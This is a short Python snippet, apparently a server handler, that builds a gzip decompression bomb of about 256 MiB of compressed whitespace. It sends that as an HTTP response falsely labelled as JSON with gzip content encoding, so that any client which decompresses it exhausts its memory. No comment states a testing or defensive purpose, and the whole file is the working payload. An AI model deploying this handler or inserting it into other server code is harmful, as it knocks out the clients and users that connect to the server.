import zlib

PACKER = zlib.compressobj(9, wbits=31)
BOMB = b"".join(PACKER.compress(b" " * (1 << 20)) for _ in range(256)) + PACKER.flush()


def answer(connection):
    head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n"
    connection.sendall(head % len(BOMB) + BOMB)
